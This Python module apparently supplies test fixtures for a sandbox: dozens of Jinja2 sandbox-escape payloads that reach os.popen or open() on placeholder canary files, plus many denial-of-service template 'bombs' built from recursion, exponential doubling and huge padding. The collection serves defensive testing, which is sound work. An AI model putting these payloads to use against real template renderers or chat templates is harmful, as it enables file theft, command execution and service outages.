"""The texts of hostile chat templates: known ways out of Jinja2's sandbox, and known ways to use it up.

`@CANARY@` is a file to read, `@TOUCHED@` one to make. Sources: the published escapes from Jinja2 and its
sandbox (CVE-2016-10745, CVE-2019-8341, CVE-2019-10906, CVE-2024-34359, CVE-2024-56201, CVE-2024-56326,
CVE-2025-27516, CVE-2026-5760), and lists of payloads for template injection.
"""

from typing import Final

__all__ = ["BOMBS", "ESCAPES"]

_READ: Final = "open('@CANARY@').read()"
_TOUCH: Final = "popen('echo x > @TOUCHED@').read()"
_GLOBALS: Final = "__globals__['__builtins__']"


def _subclass_search(base: str, attribute: str) -> str:
    """Find a class with Python's builtins in reach among all subclasses of object."""
    return (
        f"{{% for c in {base} %}}{{% if c.__name__ == 'catch_warnings' or c.__name__ == '_Environ' %}}"
        f"{{{{ c.{attribute}.__globals__['__builtins__']['open']('@CANARY@').read() }}}}"
        "{% endif %}{% endfor %}"
    )


ESCAPES: Final[dict[str, str]] = {
    "only with tools": "{% if tools %}{{ lipsum.__globals__['os']." + _TOUCH + " }}{% endif %}",
    "class of a tool": "{% for tool in tools %}"
    + _subclass_search("tool.__class__.__mro__[-1].__subclasses__()", "__init__")
    + "{% endfor %}",
    "arguments of a call": "{{ messages[1].tool_calls[0].function.arguments.__str__."
    + _GLOBALS
    + "['open']('@CANARY@').read() }}",
    "json of a tool": "{{ (tools|tojson).__class__.__mro__[1].__init__.__globals__.os." + _TOUCH + " }}",
    "lipsum globals": "{{ lipsum." + _GLOBALS + "['" + "open" + "']('@CANARY@').read() }}",
    "lipsum os": "{{ lipsum.__globals__['os']." + _TOUCH + " }}",
    "lipsum os by dot": "{{ lipsum.__globals__.os." + _TOUCH + " }}",
    "cycler init": "{{ cycler.__init__.__globals__.os." + _TOUCH + " }}",
    "joiner init": "{{ joiner.__init__.__globals__.os." + _TOUCH + " }}",
    "namespace init": "{{ namespace.__init__.__globals__.os." + _TOUCH + " }}",
    "cycler builtins": "{{ cycler.__init__." + _GLOBALS + "." + _READ + " }}",
    "self init": "{{ self.__init__." + _GLOBALS + "." + _READ + " }}",
    "self context": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os." + _TOUCH + " }}",
    "raise_exception": "{{ raise_exception." + _GLOBALS + "['open']('@CANARY@').read() }}",
    "strftime_now": "{{ strftime_now." + _GLOBALS + "['open']('@CANARY@').read() }}",
    "range": "{{ range.__init__.__self__.__class__.__base__.__subclasses__() }}{{ range.x." + _READ + " }}",
    "undefined init": "{{ nothing.__init__.__globals__.__builtins__." + _READ + " }}",
    "undefined class": "{{ nothing.__class__.__init__.__globals__['sys'].modules['os']." + _TOUCH + " }}",
    "dict subclasses": _subclass_search("dict.__base__.__subclasses__()", "__init__"),
    "string subclasses": _subclass_search("''.__class__.__mro__[1].__subclasses__()", "__init__"),
    "tuple subclasses": _subclass_search("().__class__.__base__.__subclasses__()", "__init__"),
    "list subclasses": _subclass_search("[].__class__.__mro__[-1].__subclasses__()", "__init__"),
    "number subclasses": _subclass_search("(1).__class__.__bases__[0].__subclasses__()", "__init__"),
    "subclasses by attr": "{% for c in ''|attr('__class__')|attr('__base__')|attr('__subclasses__')() %}"
    "{% if c|attr('__name__') == 'catch_warnings' %}"
    "{{ (c|attr('__init__')|attr('__globals__'))['__builtins__']." + _READ + " }}{% endif %}{% endfor %}",
    "attr": "{{ (lipsum|attr('__globals__'))['os']." + _TOUCH + " }}",
    "attr joined": "{{ (lipsum|attr(['__glo', 'bals__']|join))['os']." + _TOUCH + " }}",
    "attr reversed": "{{ (lipsum|attr('__slabolg__'|reverse|join))['os']." + _TOUCH + " }}",
    "attr hex": "{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os']." + _TOUCH + " }}",
    "attr format": "{{ (lipsum|attr('%sglobals%s'|format('__', '__')))['os']." + _TOUCH + " }}",
    "attr lower": "{{ (lipsum|attr('__GLOBALS__'|lower))['os']." + _TOUCH + " }}",
    "item instead of attribute": "{{ lipsum['__globals__']['os']." + _TOUCH + " }}",
    "item of unicode": "{{ lipsum['\\u005f\\u005fglobals\\u005f\\u005f']['os']." + _TOUCH + " }}",
    "attribute by map": "{{ ([lipsum]|map(attribute='__globals__')|list)[0]['os']." + _TOUCH + " }}",
    "attribute path by map": "{{ [lipsum]|map(attribute='__globals__.os.environ')|list }}"
    "{{ ([lipsum]|map(attribute='__globals__.os')|first)." + _TOUCH + " }}",
    "attribute by groupby": "{% for k, v in [lipsum]|groupby('__globals__') %}{{ k['os']."
    + _TOUCH
    + " }}{% endfor %}",
    "attribute by selectattr": "{{ [lipsum]|selectattr('__globals__')|list }}"
    "{{ (([lipsum]|selectattr('__globals__')|first).__globals__).os." + _TOUCH + " }}",
    "attribute by sort": "{{ [lipsum, lipsum]|sort(attribute='__globals__') }}{{ lipsum.func_globals.os."
    + _TOUCH
    + " }}",
    "attribute by sum": "{{ [lipsum]|sum(attribute='__globals__') }}",
    "format string": "{{ '{0.__globals__[os].environ}'.format(lipsum) }}"
    "{{ '{0.__globals__[__builtins__][open]}'.format(lipsum)('@CANARY@').read() }}",
    "format_map string": "{{ '{a.__globals__}'.format_map({'a': lipsum}) }}{{ lipsum.__globals__.os."
    + _TOUCH
    + " }}",
    "indirect format": "{% set f = '{0.__class__.__init__.__globals__}'.format %}{{ f(cycler) }}"
    "{{ cycler.__init__.__globals__.os." + _TOUCH + " }}",
    "format by attr": "{{ ('{0.__globals__}'|attr('format'))(lipsum) }}{{ (lipsum|attr('__globals__')).os."
    + _TOUCH
    + " }}",
    "format by map": "{{ ['{0.__globals__}']|map('attr', 'format')|list }}"
    "{{ (['{0.__globals__[os]}'.format]|first)(lipsum)." + _TOUCH + " }}",
    "generator frame": "{% set g = messages|map('upper') %}{{ g.gi_frame.f_back.f_globals['__builtins__']."
    + _READ
    + " }}",
    "generator code": "{{ (messages|map('length')).gi_code.co_consts }}"
    "{{ (messages|map('length')).gi_frame.f_builtins." + _READ + " }}",
    "macro": "{% macro m() %}{% endmacro %}{{ m._func." + _GLOBALS + "." + _READ + " }}",
    "macro environment": "{% macro m() %}{% endmacro %}{{ m._environment.from_string('x').__class__.__init__."
    "__globals__.os." + _TOUCH + " }}",
    "loop": "{% for m in messages %}{{ loop.__init__.__globals__.__builtins__." + _READ + " }}{% endfor %}",
    "caller": "{% macro m() %}{{ caller._func." + _GLOBALS + "." + _READ + " }}{% endmacro %}"
    "{% call m() %}{% endcall %}",
    "include": "{% include '@CANARY@' %}",
    "import": "{% import '@CANARY@' as canary %}{{ canary }}",
    "from import": "{% from 'os' import popen %}{{ popen('echo x > @TOUCHED@').read() }}",
    "extends": "{% extends '@CANARY@' %}",
    "codec": "{{ '@CANARY@'.encode('idna') }}{{ 'eA=='.encode('base64') }}{{ lipsum.__globals__.os."
    + _TOUCH
    + " }}",
    "mutation": "{{ messages.clear() }}{{ messages.append(1) }}{% set _ = tools.__class__."
    + _GLOBALS
    + "."
    + _READ
    + " %}",
    "arguments": "{% for m in messages if m.tool_calls %}{{ m.tool_calls[0].function.arguments.__str__."
    + _GLOBALS
    + "['open']('@CANARY@').read() }}{% endfor %}",
    "content": "{{ messages[1].content.__class__.__mro__[-1].__subclasses__() }}"
    "{{ messages[1].content.__class__.__init__.__globals__.os." + _TOUCH + " }}",
}

_LOOP: Final = "{% for _ in range(99999) %}"
_NS: Final = "{% set n = namespace(x='aaaaaaaa', l=[1, 2, 3, 4, 5, 6, 7, 8], d={}) %}"

BOMBS: Final[dict[str, str]] = {
    "two loops": _LOOP * 2 + "{% endfor %}" * 2,
    "ten loops": _LOOP * 10 + "{% endfor %}" * 10,
    "output in loops": _LOOP * 2 + "x" + "{% endfor %}" * 2,
    "recursive loop": "{% for x in [1] recursive %}{{ loop([1]) }}{% endfor %}",
    "recursive loop, wide": "{% for x in [1, 2] recursive %}{{ loop([1, 2]) }}{% endfor %}",
    "macro calls itself": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "macro calls itself twice": "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}"
    "{% endmacro %}"
    "{{ f(60) }}",
    "macros call each other": "{% macro f() %}{{ g() }}{% endmacro %}{% macro g() %}{{ f() }}"
    "{% endmacro %}{{ f() }}",
    "caller calls itself": "{% macro f() %}{{ caller() }}{% endmacro %}{% macro g() %}{% call f() %}{{ g() }}"
    "{% endcall %}{% endmacro %}{{ g() }}",
    "Ackermann": "{% macro a(m, n) %}{% if m == 0 %}{{ n + 1 }}{% elif n == 0 %}{{ a(m - 1, 1) }}{% else %}"
    "{{ a(m - 1, a(m, n - 1)|int) }}{% endif %}{% endmacro %}{{ a(4, 2) }}",
    "doubling in a namespace": _NS + _LOOP + "{% set n.x = n.x ~ n.x %}{% endfor %}{{ n.x|length }}",
    "doubling by +": _NS + _LOOP + "{% set n.x = n.x + n.x %}{% endfor %}{{ n.x|length }}",
    "doubling without a loop": "{% set a = 'aaaaaaaa' %}" + "{% set a = a ~ a %}" * 40 + "{{ a|length }}",
    "doubling by join": _NS + _LOOP + "{% set n.x = [n.x, n.x]|join %}{% endfor %}{{ n.x|length }}",
    "doubling by replace": _NS + _LOOP + "{% set n.x = n.x|replace('a', 'aa') %}{% endfor %}{{ n.x|length }}",
    "doubling by format": _NS + _LOOP + "{% set n.x = '%s%s'|format(n.x, n.x) %}{% endfor %}{{ n.x|length }}",
    "doubling by block set": _NS
    + _LOOP
    + "{% set y %}{{ n.x }}{{ n.x }}{% endset %}{% set n.x = y %}{% endfor %}",
    "doubling by filter block": _NS
    + _LOOP
    + "{% set y %}{% filter replace('a', 'aa') %}{{ n.x }}{% endfilter %}{% endset %}{% set n.x = y %}"
    "{% endfor %}",
    "doubling a list": _NS + _LOOP + "{% set n.l = n.l + n.l %}{% endfor %}{{ n.l|length }}",
    "doubling a nested list": _NS + "{% for _ in range(60) %}{% set n.l = [n.l, n.l] %}{% endfor %}{{ n.l }}",
    "doubling JSON": _NS + _LOOP + "{% set n.l = [n.l, n.l]|tojson %}{% endfor %}{{ n.l|length }}",
    "deep JSON": _NS + _LOOP + "{% set n.l = [n.l] %}{% endfor %}{{ n.l|tojson }}",
    "wide JSON": "{% set a = 'a' * 1000000 %}{{ [a, a, a, a, a, a, a, a] * 99|tojson|length }}"
    "{{ ([a] * 9999)|tojson }}",
    "repetition of text": "{{ 'a' * 10000000000 }}",
    "repetition of a list": "{{ ([1] * 10000000000)|length }}",
    "repetition, folded": "{{ ('a' * 99999) * 99999 * 99999 }}",
    "power": "{{ 9 ** (9 ** (9 ** 9)) }}",
    "power in a test": "{% if (7 ** (7 ** (7 ** 7))) is even %}x{% endif %}",
    "big multiplication": "{% set n = namespace(i=3) %}"
    + _LOOP
    + "{% set n.i = n.i * n.i %}{% endfor %}{{ n.i }}",
    "shift by format": "{{ '%099999999999d' % 1 }}",
    "padding by format": "{{ '%*d' % (9999999999, 1) }}",
    "padding by str.format": "{{ '{:>99999999999}'.format(1) }}",
    "center": "{{ 'a'|center(9999999999) }}",
    "str.center": "{{ 'a'.center(9999999999) }}",
    "ljust": "{{ 'a'.ljust(9999999999) }}",
    "zfill": "{{ 'a'.zfill(9999999999) }}",
    "expandtabs": "{{ ('\\t' * 99999).expandtabs(9999999) }}",
    "indent": "{{ ('a\\n' * 99999)|indent(999999) }}",
    "wordwrap": "{{ ('a ' * 9999999)|wordwrap(1)|length }}{{ 'a' * 10 ** 11 }}",
    "huge range": "{% for _ in range(1000000000) %}x{% endfor %}",
    "range by message": "{% for _ in range(messages[2].content|int) %}x{% endfor %}",
    "range to list, doubled": _NS
    + "{% set n.l = range(99999)|list %}"
    + _LOOP
    + "{% set n.l = n.l * 2 %}{% endfor %}",
    "batch": "{{ range(9)|batch(9999999999, 0)|list|length }}",
    "slice": "{{ range(9)|slice(9999999999, 0)|list|length }}",
    "join of much": "{% set a = 'a' * 999999 %}{{ range(99999)|join(a)|length }}",
    "sum of lists": "{{ ([[1] * 9999] * 99999)|sum(start=[])|length }}",
    "lorem ipsum": "{{ lipsum(n=99999, html=false, min=9999, max=99999) }}",
    "doubling by message": "{% set n = namespace(x=messages[0].content) %}"
    "{% for _ in range(n.x|length * 9) %}"
    "{% set n.x = n.x ~ n.x %}{% endfor %}",
    "product of messages": "{% for a in messages %}" * 40 + "x" + "{% endfor %}" * 40,
    "sorting": "{{ (range(99999)|list * 99)|sort|sort(reverse=true)|unique|list|length }}" * 9,
    "regular expression": "{{ ('www.' ~ 'a.' * 99999)|urlize|length }}" * 99 + _LOOP * 2 + "{% endfor %}" * 2,
    "strftime": "{{ strftime_now('%99999999999d') }}{{ strftime_now('%Y' * 9999999) * 9 }}"
    "{{ 'a' * 10 ** 10 }}",
    "deep parentheses": "{{ " + "(" * 50_000 + "1" + ")" * 50_000 + " }}",
    "deep lists": "{{ " + "[" * 30_000 + "]" * 30_000 + " }}",
    "long sum": "{{ " + "+".join(["x"] * 50_000) + " }}",
    "deep blocks": "{% if x %}" * 9_000 + "{% endif %}" * 9_000,
    "many variables": "".join(f"{{% set v{i} = {i} %}}" for i in range(9_000)),
    "many macros": "".join(f"{{% macro m{i}() %}}{{% endmacro %}}" for i in range(5_000)),
    "long comparison": "{{ " + " < ".join(["1"] * 50_000) + " }}",
    "endless output": "{% set a = 'a' * 999999 %}" + _LOOP + "{{ a }}{% endfor %}",
    "cycler": "{% set c = cycler(*range(99999)) %}"
    + _LOOP * 2
    + "{{ c.next() }}{% endfor %}"
    + "{% endfor %}",
    "only with tools": "{% if tools %}" + _LOOP * 2 + "{% endfor %}" * 2 + "{% endif %}",
    "tools of tools": "{% for a in tools %}" + _LOOP * 3 + "{{ a|tojson }}" + "{% endfor %}" * 4,
    "indented tools": "{{ tools|tojson(indent=10 ** 9) }}",
    "arguments without end": _NS
    + _LOOP
    + "{% set n.d = [n.d, n.d, messages[1].tool_calls[0].function.arguments] %}{% endfor %}{{ n.d|tojson }}",
    "debug of everything": _NS + _LOOP + "{% set n.d = {'a': n.d, 'b': n.d} %}{% endfor %}{{ n.d|pprint }}",
}
